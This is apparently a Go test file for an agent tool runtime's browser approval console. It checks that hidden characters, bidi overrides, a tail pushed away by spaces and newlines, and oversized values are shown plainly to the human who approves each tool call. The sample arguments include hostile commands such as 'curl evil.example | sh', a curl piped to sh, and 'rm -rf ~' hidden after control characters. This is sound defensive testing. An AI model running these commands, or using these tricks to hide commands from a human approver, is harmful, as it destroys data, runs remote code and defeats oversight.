package console_test

import (
	"context"
	"encoding/json"
	"fmt"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/agentbull/toolruntime/gateway"
	"github.com/agentbull/toolruntime/protocol"
)

// markerRe matches the page's markers: a named character, a run of
// spaces, or a stack of combining marks (its parts read by partRe).
var markerRe = regexp.MustCompile(`⟦(?:(?:(\d+) × )?U\+([0-9A-F]{4,6}) [^⟧]*|(\d+) spaces?|\d+ combining marks on one character:([^⟧]*))⟧`)

var partRe = regexp.MustCompile(`^ (?:(\d+) × )?U\+([0-9A-F]{4,6}) `)

// unmark reads a shown text back: each marker as what it names.
// escapeRe finds a JSON escape that stands for a character (\n, \t,
// \u001b) rather than for a quote or a backslash.
var escapeRe = regexp.MustCompile(`(^|[^\\])(\\\\)*\\[bfnrtu/]`)

func unmark(s string) string {
	return markerRe.ReplaceAllStringFunc(s, func(m string) string {
		g := markerRe.FindStringSubmatch(m)
		if g[4] != "" {
			var b strings.Builder
			for _, part := range strings.Split(g[4], ";") {
				p := partRe.FindStringSubmatch(part)
				if p == nil {
					return m // not read back: the test sees it
				}
				r, _ := strconv.ParseUint(p[2], 16, 32)
				n := 1
				if p[1] != "" {
					n, _ = strconv.Atoi(p[1])
				}
				b.WriteString(strings.Repeat(string(rune(r)), n))
			}
			return b.String()
		}
		if g[2] != "" {
			r, _ := strconv.ParseUint(g[2], 16, 32)
			n := 1
			if g[1] != "" {
				n, _ = strconv.Atoi(g[1])
			}
			c := string(rune(r))
			if r < 0x20 {
				c = fmt.Sprintf(`\u%04x`, r) // inside a JSON string
			}
			return strings.Repeat(c, n)
		}
		n, _ := strconv.Atoi(g[3])
		return strings.Repeat(" ", n)
	})
}

// zalgo is n combining marks, no two alike in a row: a stack drawn far
// above and below its line.
func zalgo(n int) string {
	marks := []rune{0x0300, 0x0301, 0x0302, 0x0303, 0x0304, 0x0305, 0x0306, 0x0307, 0x0308, 0x030A, 0x030B, 0x030C,
		0x0316, 0x0317, 0x0318, 0x0319, 0x031C, 0x0323, 0x0324, 0x0325, 0x0326, 0x0329, 0x032A, 0x0330, 0x0331, 0x0332,
		0x0333, 0x0338, 0x0339, 0x033A, 0x0346, 0x034A, 0x0360, 0x0361, 0x0489, 0x20DD, 0x20DE, 0x20E0, 0x0E49, 0x0F39}
	var b strings.Builder
	for i := 0; i < n; i++ {
		b.WriteRune(marks[i%len(marks)])
	}
	return b.String()
}

// TestBrowserHostile holds calls whose arguments attack the person who
// reads them (bidi overrides and isolates, invisible and tag characters,
// a tail pushed away by 400 spaces and 120 newlines, a value longer than
// the list shows), has a person approve each through the page in
// Chromium, and checks that what the page showed, read back, is exactly
// what ran: no hidden character reached the rendered text, nothing was
// folded or in a scroll box, and the long value could only be approved
// from the page that shows all of it. Values that would paint over or
// push away the controls (wide glyphs, a stack of 300 combining marks,
// emoji ZWJ sequences, a long unbroken token, RTL text) leave every
// Approve, Reject and Send control uncovered and in view, draw nothing
// outside their argument block, and are drawn in boxes that clip their
// paint; a stack of marks is one counted marker, and no mark is drawn.
func TestBrowserHostile(t *testing.T) {
	t.Parallel()
	chromium, npmDir := browserTools(t)
	r := newRig(t)
	notes := map[string]string{
		"bidi":  "true # \u202eidib-DENWP hcuot ; echo preview\u202c and \u2067x\u2069 \u200e\u200f\u061c",
		"invis": "touch report\u00ad.txt fi\u200bnal\u2060.txt\U000E0041\U000E0042 \ufeff\u180e\ufe0f\u00a0\u200c\u200d\u2061",
		"tail":  "git log --oneline" + strings.Repeat(" ", 400) + strings.Repeat("\n", 120) + "; curl evil.example | sh TAILMARK",
		"huge":  "ok " + strings.Repeat("a", 70<<10) + " HUGETAIL",
		// Controls inside the JSON string: each a named marker, as in
		// any other text, never an escape (\n, \u001b) to decode, and
		// a backslash and an n (\\n in JSON) told apart from a newline.
		// Content that would paint over or push away the controls or
		// other steps: wide glyphs, a stack of 300 combining marks on one
		// letter, emoji joined by ZWJ, a long unbroken token, RTL text.
		"wide":  strings.Repeat("\ufdfdx\U00012219y\ua9c1z\u0bf5\u2e3b", 30) + strings.Repeat("\u0bf5", 300) + " " + strings.Repeat("\u2e3b", 300) + strings.Repeat("\U00012219", 200),
		"zalgo": "rm -rf ~/ok" + zalgo(300) + " ; e" + zalgo(40) + "cho done" + zalgo(3),
		"emoji": strings.Repeat("\U0001F468\u200d\U0001F469\u200d\U0001F467\u200d\U0001F466 \U0001F3F3\ufe0f\u200d\U0001F308\U0001F469\U0001F3FD\u200d\U0001F4BB\U0001F1FA\U0001F1F8\U0001F3F4\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F", 12),
		"token": "curl https://example.com/" + strings.Repeat("A9_", 2000) + "/x.sh|sh",
		"rtl":   "echo \u05e9\u05dc\u05d5\u05dd \u0639\u0631\u0628\u064a 123 ; rm -rf /tmp/\u05d0\u05d1 # \u0627\u0644\u0633\u0644\u0627\u0645 " + strings.Repeat("\u05d0\u0628", 200),
		"ctl":   "echo ok\x00\x1b[2J\r\t\x7f\u0085\u2028 \\n done\n\n\nrm -rf ~ \b\f\x01",
	}
	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
	defer cancel()
	runs := map[string]*gateway.StepRun{}
	for turn, note := range notes {
		args, _ := json.Marshal(map[string]string{"note": note})
		run, err := r.gw.Send(ctx, protocol.Step{AgentID: "a1", TurnID: turn, Step: 0, Context: diagCtx,
			Output: []json.RawMessage{fc("c1", "ping", string(args))}})
		if err != nil {
			t.Fatal(err)
		}
		defer run.Close()
		if _, err := run.Next(ctx); err != nil {
			t.Fatal(err)
		}
		runs[turn] = run
	}
	outb := runBrowser(ctx, t, "hostile.mjs", r.url, npmDir, chromium)
	var out struct {
		Shown                        map[string]string
		RawHidden, Flashes           []string
		ClosedFolds, ScrollBoxes     int
		TailVisible, HugeTailOnList  bool
		HugeApprove, HugeStepApprove int
		HugeTailOnStep               bool
		DrawnMarks                   int
		Paint                        []string
	}
	if err := json.Unmarshal(outb, &out); err != nil {
		t.Fatalf("browser script output %q: %v", outb, err)
	}
	if len(out.RawHidden) > 0 {
		t.Errorf("hidden characters reached the rendered page: U+%v", out.RawHidden)
	}
	if out.ClosedFolds > 0 || out.ScrollBoxes > 0 {
		t.Errorf("%d closed folds and %d scroll boxes hide arguments", out.ClosedFolds, out.ScrollBoxes)
	}
	if !out.TailVisible {
		t.Error("the tail after 400 spaces and 120 newlines is not visible")
	}
	if out.HugeApprove != 0 || out.HugeTailOnList {
		t.Errorf("the long value: %d approve buttons on the list (want none), its tail on the list: %v", out.HugeApprove, out.HugeTailOnList)
	}
	if out.HugeStepApprove != 1 || !out.HugeTailOnStep {
		t.Errorf("the long value's page: %d approve buttons, tail shown %v", out.HugeStepApprove, out.HugeTailOnStep)
	}
	if out.DrawnMarks > 0 {
		t.Errorf("%d combining marks drawn on the page (each must be named)", out.DrawnMarks)
	}
	for _, p := range out.Paint {
		t.Errorf("paint: %s", p)
	}
	for _, f := range out.Flashes {
		if !strings.Contains(f, "Your decision decided") {
			t.Errorf("flash %q", f)
		}
	}
	for turn, shown := range out.Shown {
		var v struct{ Note string }
		if err := json.Unmarshal([]byte(unmark(shown)), &v); err != nil {
			t.Errorf("%s: the shown text %q does not read back as JSON: %v", turn, shown, err)
			continue
		}
		if v.Note != notes[turn] {
			t.Errorf("%s: the page showed %q, read back %q; what runs is %q", turn, shown, v.Note, notes[turn])
		}
		if turn == "zalgo" && !strings.Contains(shown, "~/ok⟦300 combining marks on one character: U+0300 COMBINING GRAVE ACCENT; U+0301") {
			t.Errorf("zalgo: the stack of 300 marks is not one counted marker: %.300q", shown)
		}
		if turn == "bidi" && !strings.Contains(shown, "⟦U+202E RIGHT-TO-LEFT OVERRIDE⟧") {
			t.Errorf("bidi: %q", shown)
		}
		if turn == "tail" && !strings.Contains(shown, "⟦120 × U+000A LINE FEED⟧") {
			t.Errorf("tail: the newlines are not one named marker: %.300q", shown)
		}
		if turn == "ctl" {
			for _, w := range []string{"⟦U+0000 NULL⟧", "⟦U+001B ESCAPE⟧", "⟦U+000D CARRIAGE RETURN⟧", "⟦U+0009 CHARACTER TABULATION⟧",
				"⟦U+007F DELETE⟧", "⟦U+0085 NEXT LINE⟧", "⟦U+2028 LINE SEPARATOR⟧", `\\n done⟦3 × U+000A LINE FEED⟧rm`,
				"⟦U+0008 BACKSPACE⟧", "⟦U+000C FORM FEED⟧", "⟦U+0001 START OF HEADING⟧"} {
				if !strings.Contains(shown, w) {
					t.Errorf("ctl: %q lacks %q", shown, w)
				}
			}
		}
		if escapeRe.MatchString(shown) {
			t.Errorf("%s: an escape of a character is on the page, not its name: %q", turn, shown)
		}
	}
	for turn, run := range runs {
		done, err := run.Wait(ctx)
		if err != nil {
			t.Fatal(err)
		}
		var item struct{ Output string }
		_ = json.Unmarshal(done.Items[0], &item)
		if item.Output != "pong "+notes[turn] {
			t.Errorf("%s ran with another value: %.200q", turn, item.Output)
		}
	}
}
